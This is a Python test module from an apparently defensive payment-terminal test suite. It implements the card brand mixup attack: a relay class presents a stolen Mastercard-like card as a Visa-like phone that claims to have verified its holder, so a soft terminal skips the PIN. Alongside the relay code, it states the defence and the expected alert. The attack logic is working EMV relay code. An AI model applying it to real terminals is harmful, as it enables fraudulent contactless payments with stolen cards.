# SPDX-FileCopyrightText: 2026 The Tillguard authors
# SPDX-License-Identifier: Apache-2.0
"""A08: a card of one brand is presented under the application of another, whose rules spare its holder the PIN."""

from protocols.emv import apdu, dol, tlv
from protocols.emv.apdu import Command, Ins, Response
from protocols.emv.tags import Tag
from tests.attacks.harness import Attack, Case
from tests.attacks.soft.contactless import BLIND_TO_BRANDS
from tests.attacks.tap_lane import Chip, TapLane, tap_lane

VISA, MASTERCARD = bytes.fromhex("A0000000031010"), bytes.fromhex("A0000000041010")
PDOL = bytes.fromhex("9F66049F02069F03069F1A0295055F2A029A039C019F3704")
DEVICE_VERIFIED = bytes.fromhex("0080")


class MixedUp:
    """Visa-like towards the terminal, a terminal of its own towards the Mastercard-like card."""

    def __init__(self, card: Chip) -> None:
        self._card = card

    def apdu(self, command: bytes) -> bytes:
        """See :class:`Chip`."""
        asked = Command.decode(command)
        if asked.ins == Ins.SELECT:
            return _answer(_directory() if asked.data == apdu.PPSE else _application())
        if asked.ins == Ins.GET_PROCESSING_OPTIONS:
            values = tlv.decode(asked.data).first(0x83) or b""
            return _answer(self._paid(dol.split(dol.decode(PDOL), values)))
        return b"\x6d\x00"

    def _paid(self, given: dict[int, bytes]) -> bytes:
        """One payment of the card's, over the terminal's data, dressed as the other brand's answer."""
        self._ask(apdu.select(MASTERCARD).encode())
        options = dict(tlv.decode(self._ask(apdu.get_processing_options(bytes(8) + b"\x22").encode())).leaves())
        held = dict(options)
        locator = options[Tag.AFL]
        for place in range(0, len(locator), 4):
            sfi, first, last = locator[place] >> 3, locator[place + 1], locator[place + 2]
            for number in range(first, last + 1):
                held |= dict(tlv.decode(self._ask(apdu.read_record(sfi, number).encode())).leaves())
        said = {**given, Tag.CVM_RESULTS: bytes.fromhex("1F0302"), Tag.TERMINAL_TYPE: b"\x22"}
        data = dol.fill(dol.decode(held[Tag.CDOL_1]), said)
        made = dict(tlv.decode(self._ask(apdu.generate_ac(2, data).encode())).leaves())
        shown = [
            (int(tag), {**held, **made}[tag])
            for tag in (
                Tag.AIP,
                Tag.TRACK_2_EQUIVALENT,
                Tag.PAN_SEQUENCE,
                Tag.ISSUER_APPLICATION_DATA,
                Tag.APPLICATION_CRYPTOGRAM,
                Tag.CID,
                Tag.ATC,
            )
        ]
        return tlv.encode([tlv.template(Tag.RESPONSE_FORMAT_2, *shown, (int(Tag.CTQ), DEVICE_VERIFIED))])

    def _ask(self, command: bytes) -> bytes:
        return Response.decode(self._card.apdu(command)).data


def _answer(data: bytes) -> bytes:
    return Response(data, 0x9000).encode()


def _directory() -> bytes:
    entry = tlv.template(Tag.DIRECTORY_ENTRY, (int(Tag.AID_CARD), VISA), (int(Tag.APPLICATION_PRIORITY), b"\x01"))
    listed = tlv.template(Tag.FCI_PROPRIETARY, tlv.template(Tag.FCI_ISSUER_DISCRETIONARY, entry))
    return tlv.encode([tlv.template(Tag.FCI_TEMPLATE, (int(Tag.DF_NAME), apdu.PPSE), listed)])


def _application() -> bytes:
    inner = tlv.template(Tag.FCI_PROPRIETARY, (int(Tag.APPLICATION_LABEL), b"CARD"), (int(Tag.PDOL), PDOL))
    return tlv.encode([tlv.template(Tag.FCI_TEMPLATE, (int(Tag.DF_NAME), VISA), inner)])


async def pay_under_the_other_brand(target: TapLane) -> bool:
    """Relay a stolen Mastercard-like card as a Visa-like telephone that verified its holder."""
    return target.pay(MixedUp(target.card("test-mastercard-like")))


ATTACK = Attack(
    id="A08",
    title="Card of one brand under another's application",
    reference="Basin, Sasse, Toro-Pozo, USENIX Security 2021: Card brand mixup attack",
    attacker="has a stolen card and two telephones between it and the terminal; wants to pay above the CVM limit "
    "without its PIN, at a till whose profile trusts telephones (trust-unproven-cdcvm)",
    soft="a terminal that does not compare the application's brand with the account number's",
    defence="application identifier and number ranges must be of one brand, or the payment stops before it goes online",
    cases=(
        Case(
            "a Mastercard-like card as a Visa-like telephone",
            soft=tap_lane(kernels=BLIND_TO_BRANDS, trust_unproven_cdcvm=True),
            hardened=tap_lane(trust_unproven_cdcvm=True),
            strike=pay_under_the_other_brand,
            alert="card.brand-mismatch",
            told="head office, in the payment's alerts",
        ),
    ),
)
